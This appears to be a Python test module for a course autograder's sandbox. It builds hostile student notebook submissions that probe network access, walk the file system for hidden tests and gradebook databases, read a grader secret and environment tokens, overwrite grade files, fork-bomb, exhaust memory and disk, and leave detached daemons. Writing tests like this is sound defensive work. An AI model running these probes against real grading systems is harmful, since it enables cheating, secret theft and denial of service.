"""Hostile submissions for the sandbox tests, made from the released notebooks.

Each attack is code a student could write in an answer cell of the released ``fashion_mnist``
notebook (``combined`` puts several in one notebook, one cell each, so that they share one
kernel start). The code prints one line ``ATTACK {json}`` saying what it achieved, which the
tests read back from the autograded notebook. Every attack is also run *without* the
sandbox (the opt-out) to show that it works there: an attack that fails either way would prove
nothing.

The attacks are written to be safe on a shared machine even without the sandbox: they read
anything they can, but overwrite only files under the test's own course copy (``blast``), and
only *open for appending* (no byte written) the files they must not be able to change elsewhere.
"""

from __future__ import annotations

import json
import textwrap
from dataclasses import dataclass
from pathlib import Path

import nbformat

import builder

MARK = "ATTACK "
# The marker nbgrader keeps around hidden tests in the source notebooks, in the autograded copies
# and in the gradebook (tests/notebooks/test_release.py checks that the release never holds it).
HIDDEN_SNIPPET = "### BEGIN HIDDEN TESTS"


@dataclass
class Target:
    """What an attack is built for: the course copy it runs in and where it reports."""

    release: Path       # the course's release/week2, which the attack notebooks start from
    report_to: Path     # a file outside the course copy
    blast: Path = Path("/nonexistent")  # the course copy: the only place it overwrites files
    port: int = 0       # a listener on the grader's loopback
    grader_home: Path = Path("/nonexistent")
    probes: tuple = ()  # shared files it must not be able to change


def notebook_with(target: Target, cells: dict[str, str]):
    """The released fashion_mnist notebook with these answer cells (grade id -> code) replaced."""
    nb = builder.read(target.release / "fashion_mnist.ipynb")
    builder.set_answers(nb, cells)
    return nb


# Answer cells of fashion_mnist, in order, that attacks replace (the checks between them just fail).
SLOTS = ("f1_load", "f1_show", "f3_scale", "f3_augment", "f4_functions", "f5_model")


def combined(target: Target, *attacks) -> "nbformat.NotebookNode":
    """Several attacks in one notebook, one answer cell each: one kernel start for all."""
    return notebook_with(target, dict(zip(SLOTS, attacks)))


def submission(target: Target, *attacks) -> builder.Submission:
    """A submission of the attacks, in fashion_mnist (mnist not handed in)."""
    return builder.Submission({"fashion_mnist": combined(target, *attacks)})


def finish(name: str, code: str, report_to: Path) -> str:
    """Print the report as ``ATTACK {"attack": name, ...}``; also write it to ``report_to``
    (works only without the sandbox, and is how a report survives an attack that breaks nbgrader
    itself, such as a lost gradebook)."""
    return textwrap.dedent(code) + textwrap.dedent(f"""
    import json as _json
    report["attack"] = {name!r}
    print("ATTACK " + _json.dumps(report))
    try:
        with open({str(report_to)!r} + "." + {name!r}, "w") as _f:
            _json.dump(report, _f)
    except OSError:
        pass
    """)


def snoop(t: Target):
    """Network, reading and writing: everything an honest kernel never needs."""
    port, blast, grader_home, probes = t.port, t.blast, t.grader_home, t.probes
    code = f'''
    import os, socket, stat, time
    report = {{}}
    # 1. Network: a listener on the grader's loopback.
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=5) as s:
            s.sendall(b"pwned")
        report["network"] = "sent"
    except OSError as err:
        report["network"] = f"{{type(err).__name__}}: {{err}}"

    # 2. Reading: walk the file system, from here upwards, for notebooks that hold hidden
    #    tests and for SQLite databases (the gradebook holds every hidden test and grade).
    own = os.getcwd()
    hidden, sqlite, notebooks, seen = [], [], [], set()
    deadline = time.time() + 10
    skip = {{"/proc", "/sys", "/dev", "/usr", "/run"}}
    bases = [own]
    while bases[-1] != "/":
        bases.append(os.path.dirname(bases[-1]))
    for base in bases:
        for folder, dirs, files in os.walk(base):
            if folder in seen or time.time() > deadline:
                dirs[:] = []
                continue
            seen.add(folder)
            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip
                       and d not in (".venv", "site-packages", ".git", "__pycache__", ".pyenv")]
            for name in files:
                path = os.path.join(folder, name)
                try:
                    # A FIFO or device left by another program would block the walk for good.
                    if not stat.S_ISREG(os.stat(path).st_mode):
                        continue
                    with open(path, "rb") as f:
                        head = f.read(16)
                        if head.startswith(b"SQLite format 3"):
                            sqlite.append(path)
                        if name.endswith(".ipynb"):
                            notebooks.append(path)
                            if {HIDDEN_SNIPPET!r}.encode() in head + f.read():
                                hidden.append(path)
                except OSError:
                    pass
    report["hidden"], report["sqlite"] = hidden, sqlite
    report["notebooks_seen"] = len(notebooks)
    report["course_listing"] = {{}}
    for sub in (".", "autograded"):
        try:
            report["course_listing"][sub] = sorted(os.listdir(os.path.join({str(blast)!r}, sub)))
        except OSError as err:
            report["course_listing"][sub] = type(err).__name__
    try:
        report["home_secret"] = open({str(grader_home / "secret.txt")!r}).read()
    except OSError as err:
        report["home_secret"] = f"{{type(err).__name__}}"

    # 3. Writing: overwrite the gradebook and every notebook found outside our own folder
    #    (only inside this test's course copy), and see whether shared files could be changed.
    blast = {str(blast)!r}
    written = []
    targets = [p for p in notebooks + sqlite if not p.startswith(own + os.sep) and p.startswith(blast + os.sep)]
    targets += [os.path.join(blast, "gradebook", "gradebook.db"), os.path.join(blast, "gradebook", "pwned.txt")]
    for path in sorted(set(targets)):
        try:
            with open(path, "w") as f:
                f.write("pwned")
            written.append(path)
        except OSError:
            pass
    report["written"] = written
    appendable = []
    for path in {[str(p) for p in probes]!r}:
        try:
            with open(path, "ab"):
                appendable.append(path)
        except OSError:
            pass
    report["appendable"] = appendable
    # In our own folder anything goes, but it must not reach the grader's autograded/ folder.
    with open("pwned.txt", "w") as f:
        f.write("pwned")
    with open("fashion_mnist.ipynb", "w") as f:
        f.write("pwned")
    report["uid"] = os.getuid()
    '''
    return finish('snoop', code, t.report_to)


def forker(t: Target, count: int, lifetime: int = 10):
    """Fork hundreds of processes that sleep (and then leave, so that none outlives the test)."""
    code = f'''
    import os, time
    report = {{"forked": 0, "error": None}}
    try:
        for _ in range({count}):
            if os.fork() == 0:
                time.sleep({lifetime})
                os._exit(0)
            report["forked"] += 1
    except OSError as err:
        report["error"] = f"{{type(err).__name__}}: {{err}}"
    '''
    return finish('forker', code, t.report_to)


def hog(t: Target, gigabytes: int = 30):
    """Allocate 30 GB, one GB at a time. The pages are never touched: without the sandbox this
    only reserves address space (and the test machine survives it)."""
    code = f'''
    import numpy as np
    chunks, report = [], {{"error": None}}
    try:
        for _ in range({gigabytes}):
            chunks.append(np.zeros(2**30, dtype=np.uint8))
    except MemoryError as err:
        report["error"] = "MemoryError"
    report["allocated_gb"] = len(chunks)
    del chunks
    '''
    return finish('hog', code, t.report_to)


def hog_many(t: Target, children: int, megabytes: int):
    """Memory spread over processes: each child really uses ``megabytes``, below the
    per-process limit, together above the sandbox's."""
    code = f'''
    import os, time
    import numpy as np
    report, pids = {{}}, []
    for _ in range({children}):
        pid = os.fork()
        if pid == 0:
            block = np.ones({megabytes} * 2**20, dtype=np.uint8)  # touched: really resident
            time.sleep(8)
            os._exit(0)
        pids.append(pid)
    report["exits"] = [os.waitpid(pid, 0)[1] for pid in pids]
    '''
    return finish('hog-many', code, t.report_to)


def sleeper(t: Target):
    """Ignore the interrupt nbgrader sends at its per-cell timeout, and never finish."""
    code = '''
    import signal, time
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        time.sleep(1)
    '''
    return code


def daemon(t: Target, mark: str):
    """Leave a process behind that sleeps forever, detached from the kernel's process group
    (which is all that nbgrader kills when it is done). ``mark`` is its unique argument."""
    code = f'''
    import os
    report = {{}}
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open("/dev/null", os.O_RDWR)  # let go of nbgrader's output pipes
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv("/bin/sleep", ["sleep", {mark!r}])
        os._exit(0)
    os.waitpid(child, 0)
    report["started"] = True
    '''
    return finish('daemon', code, t.report_to)


def processes_with_argument(mark: str) -> list[int]:
    """PIDs (as the grader sees them) of the processes that have ``mark`` in their command line."""
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                if mark.encode() in (proc / "cmdline").read_bytes().split(b"\0"):
                    found.append(int(proc.name))
            except OSError:
                pass
    return found


def reports(notebook: Path) -> dict[str, dict]:
    """The ATTACK reports printed in an executed notebook, by attack (none if it is not there)."""
    found = {}
    if not notebook.is_file():
        return found
    for cell in nbformat.read(notebook, as_version=4).cells:
        for output in cell.get("outputs", []):
            for line in output.get("text", "").splitlines():
                if line.startswith(MARK):
                    report = json.loads(line[len(MARK):])
                    found[report.pop("attack")] = report
    return found


def reports_left_in(report_to: Path) -> dict[str, dict]:
    """The reports written next to ``report_to`` (only an unsandboxed kernel can write there)."""
    found = {}
    for path in report_to.parent.glob(report_to.name + ".*"):
        report = json.loads(path.read_text())
        found[report.pop("attack")] = report
    return found


def configure(course_root: Path, **settings) -> None:
    """Give a course copy its own sandbox settings (coursekit.execution.sandbox.Settings fields)."""
    with open(course_root / "nbgrader_config.py", "a") as f:
        f.write(f"\n# test settings\nfrom coursekit.execution.sandbox import Settings as _S\nSANDBOX = _S(**{settings!r})\n"
                "c.Execute.extra_arguments = SANDBOX.kernel_arguments()\n")


def environ(t: Target, prefixes: tuple[str, ...], secret: str):
    """Which of the grader's environment variables with these prefixes reach student code, and
    whether any holds the grader's secret (a Terraform token is ``TF_TOKEN_*``)."""
    code = f'''
    import os
    report = {{"seen": sorted(k for k in os.environ if k.startswith({prefixes!r})),
              "secret": any({secret!r} in v for v in os.environ.values())}}
    '''
    return finish('environ', code, t.report_to)


def filler(t: Target, megabytes: int, files: int):
    """Write ``megabytes`` into each place a kernel may write (its folder, /tmp, home, /dev/shm),
    each file under the per-file limit, and create ``files`` files; report how far it got, then
    remove everything (without the sandbox these are the grader's own /tmp, home and /dev/shm)."""
    code = f'''
    import os, shutil, tempfile
    report, made = {{"written_mb": 0, "files": 0}}, []
    chunk = b"x" * 2**20
    try:
        for i, folder in enumerate([os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/dev/shm"]):
            path = os.path.join(folder, f"coursekit-fill-{{os.getpid()}}-{{i}}")
            made.append(path)
            with open(path, "wb", buffering=0) as f:
                for _ in range({megabytes}):
                    f.write(chunk)
                    report["written_mb"] += 1
    except OSError as err:
        report["disk_error"] = os.strerror(err.errno) if err.errno else str(err)
    many = os.path.join(os.getcwd(), "many")
    try:
        os.mkdir(many)
        for i in range({files}):
            open(os.path.join(many, str(i)), "w").close()
            report["files"] += 1
    except OSError as err:
        report["files_error"] = os.strerror(err.errno) if err.errno else str(err)
    for path in made:
        try:
            os.unlink(path)
        except OSError:
            pass
    shutil.rmtree(many, ignore_errors=True)
    '''
    return finish('filler', code, t.report_to)


def shouter(t: Target, megabytes: int):
    """Print ``megabytes`` of output (nbgrader holds all of it in memory before it limits it)."""
    code = f'''
    import sys
    line = "y" * (2**20 - 1)
    for _ in range({megabytes}):
        print(line)
    report = {{"printed_mb": {megabytes}}}
    '''
    return finish('shouter', code, t.report_to)
